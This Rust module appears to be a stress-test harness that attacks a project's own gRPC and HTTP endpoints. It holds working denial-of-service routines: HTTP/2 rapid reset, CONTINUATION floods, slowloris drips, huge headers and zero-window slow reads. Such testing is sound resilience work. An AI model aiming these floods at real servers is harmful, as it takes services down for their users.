//! Clients that break or strain the protocols.

use std::io;
use std::time::Duration;

use rand::RngExt;
use tokio::io::AsyncWriteExt;
use tokio::net::TcpStream;

use super::Attacker;
use crate::wire::{
    CONTINUATION, Connection, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW, PREFACE, RST_STREAM, Reading, SETTINGS,
    block, call, dial, frame,
};

const ACT: &str = "/qedgix.v1.PolicyService/Act";

/// Streams of a connection.
const STREAMS: u32 = 1000;
/// Bytes announced for each message or body.
const ANNOUNCED: u32 = 16 << 20;
/// Time for which connections are held.
const HOLD: Duration = Duration::from_secs(3);

/// The number of a client's stream `index`.
fn stream(index: u32) -> u32 {
    2 * index + 1
}

/// The beginning of a gRPC message that announces more than follows.
fn announced() -> Vec<u8> {
    [&[0][..], &ANNOUNCED.to_be_bytes(), &[0]].concat()
}

impl Attacker {
    async fn connection(&self, settings: &[(u16, u32)], reading: Reading) -> io::Result<Connection> {
        Connection::open(self.target.grpc, self.from, settings, reading).await
    }

    async fn rest(&self, bytes: &[u8]) -> io::Result<TcpStream> {
        let mut stream = dial(self.target.http, self.from).await?;
        stream.write_all(bytes).await?;
        Ok(stream)
    }

    pub(super) async fn announce_messages(&self, round: u64) -> io::Result<()> {
        const PATHS: [&str; 6] = [
            ACT,
            "/grpc.health.v1.Health/Check",
            "/inference.GRPCInferenceService/ServerLive",
            "/qedgix.v1.PolicyService/ActStream",
            "/qedgix.v1.JobService/SubmitJob",
            "/qedgix.v1.WorkerService/UploadSnapshot",
        ];
        let connection = self.connection(&[], Reading::Polite).await?;
        let headers = call(PATHS[round as usize / 2 % PATHS.len()], self.key(round));
        for index in 0..STREAMS {
            let open = frame(HEADERS, END_HEADERS, stream(index), &headers);
            connection.write([open, frame(DATA, 0, stream(index), &announced())].concat()).await?;
        }
        tokio::time::sleep(HOLD).await;
        Ok(())
    }

    pub(super) async fn announce_bodies(&self, round: u64) -> io::Result<()> {
        const PATHS: [&str; 4] = ["/v1/act", "/v2/models/qedgix/infer", "/v1/policies/x/versions", "/v1/jobs"];
        let key = self.key(round).map_or_else(String::new, |key| format!("x-api-key: {key}\r\n"));
        let path = PATHS[round as usize / 2 % PATHS.len()];
        let head = format!(
            "POST {path} HTTP/1.1\r\nhost: 127.0.0.1\r\n{key}content-type: application/json\r\ncontent-length: {ANNOUNCED}\r\n\r\n{{"
        );
        let mut held = Vec::new();
        for _ in 0..300 {
            held.push(self.rest(head.as_bytes()).await?);
        }
        tokio::time::sleep(HOLD).await;
        Ok(())
    }

    pub(super) async fn hold_idle_connections(&self) -> io::Result<()> {
        let mut held = Vec::new();
        for _ in 0..300 {
            held.push(self.connection(&[], Reading::Polite).await?);
        }
        for _ in 0..30 {
            tokio::time::sleep(Duration::from_secs(1)).await;
            held.retain(|connection| !connection.closed());
        }
        Ok(())
    }

    pub(super) async fn reset_rapidly(&self, round: u64) -> io::Result<()> {
        let connection = self.connection(&[], Reading::Polite).await?;
        let headers = call(ACT, self.key(round));
        for batch in 0..200 {
            let mut bytes = Vec::new();
            for index in 0..100 {
                let stream = stream(batch * 100 + index);
                bytes.extend(frame(HEADERS, END_HEADERS, stream, &headers));
                bytes.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
            }
            connection.write(bytes).await?;
        }
        Ok(())
    }

    pub(super) async fn continue_headers(&self) -> io::Result<()> {
        let connection = self.connection(&[], Reading::Polite).await?;
        connection.write(frame(HEADERS, 0, 1, &call(ACT, None))).await?;
        let more = block(&[("x-filler", &"x".repeat(15_000))]);
        for _ in 0..2000 {
            connection.write(frame(CONTINUATION, 0, 1, &more)).await?;
        }
        connection.write(frame(CONTINUATION, END_HEADERS, 1, &[])).await
    }

    /// Asks for answers and takes none: no window, no reads.
    pub(super) async fn read_slowly(&self) -> io::Result<()> {
        let headers = call("/qedgix.v1.PolicyService/ListPolicies", Some(&self.target.key));
        let get = format!("GET /openapi.json HTTP/1.1\r\nhost: 127.0.0.1\r\nx-api-key: {}\r\n\r\n", self.target.key);
        let (mut calls, mut gets) = (Vec::new(), Vec::new());
        for number in 0..20 {
            let reading = if number % 2 == 0 { Reading::Polite } else { Reading::Never };
            let connection = self.connection(&[(INITIAL_WINDOW, number % 3)], reading).await?;
            for index in 0..STREAMS / 2 {
                let open = frame(HEADERS, END_HEADERS, stream(index), &headers);
                connection.write([open, frame(DATA, END_STREAM, stream(index), &[0; 5])].concat()).await?;
            }
            calls.push(connection);
            gets.push(self.rest(get.repeat(20).as_bytes()).await?);
        }
        tokio::time::sleep(HOLD).await;
        Ok(())
    }

    pub(super) async fn send_garbage(&self, round: u64) -> io::Result<()> {
        let mut rng = qedgix::rng::stream(round, "abuse-garbage", 0);
        let mut random = |len: usize| -> Vec<u8> { (0..len).map(|_| rng.random()).collect() };
        if round.is_multiple_of(3) {
            let bytes = random(4000);
            let address = if round.is_multiple_of(2) { self.target.http } else { self.target.grpc };
            return dial(address, self.from).await?.write_all(&bytes).await;
        }
        let connection = self.connection(&[], Reading::Polite).await?;
        if round.is_multiple_of(7) {
            return connection.write([PREFACE, &random(3000)].concat()).await;
        }
        for _ in 0..100 {
            let head = random(3);
            let len = usize::from(head[2]);
            // Streams with a small number, so that some of them exist.
            let mut bytes = frame(HEADERS, END_HEADERS, stream(u32::from(head[1] % 8)), &call(ACT, self.key(round)));
            bytes.extend(frame(head[0] % 12, head[1], u32::from(head[2] % 16), &random(len)));
            connection.write(bytes).await?;
        }
        connection.write(frame(SETTINGS, 0, 0, &random(60))).await
    }

    pub(super) async fn drip(&self) -> io::Result<()> {
        let key = &self.target.key;
        let head = format!(
            "POST /v1/act HTTP/1.1\r\nhost: 127.0.0.1\r\nx-api-key: {key}\r\ncontent-type: application/json\r\ncontent-length: 5000\r\n\r\n"
        );
        let connection = self.connection(&[], Reading::Polite).await?;
        let mut bodies = Vec::new();
        for index in 0..100 {
            bodies.push(self.rest(head.as_bytes()).await?);
            let open = frame(HEADERS, END_HEADERS, stream(index), &call(ACT, Some(key)));
            connection.write([open, frame(DATA, 0, stream(index), &[0, 0, 0, 19, 136])].concat()).await?;
        }
        for _ in 0..50 {
            for (index, body) in bodies.iter_mut().enumerate() {
                body.write_all(b" ").await?;
                connection.write(frame(DATA, 0, stream(index as u32), &[0])).await?;
            }
            tokio::time::sleep(Duration::from_millis(100)).await;
        }
        Ok(())
    }

    pub(super) async fn send_huge_headers(&self, round: u64) -> io::Result<()> {
        let filler = "x".repeat(1 << 20);
        if round.is_multiple_of(2) {
            let head = format!("GET /livez HTTP/1.1\r\nhost: 127.0.0.1\r\nx-filler: {filler}\r\n\r\n");
            return self.rest(head.as_bytes()).await.map(drop);
        }
        let connection = self.connection(&[], Reading::Polite).await?;
        let head = [call(ACT, None), block(&[("x-filler", &filler)])].concat();
        let (first, rest) = head.split_at(16_000);
        connection.write(frame(HEADERS, 0, 1, first)).await?;
        for part in rest.chunks(16_000) {
            connection.write(frame(CONTINUATION, 0, 1, part)).await?;
        }
        connection.write(frame(CONTINUATION, END_HEADERS, 1, &[])).await
    }
}
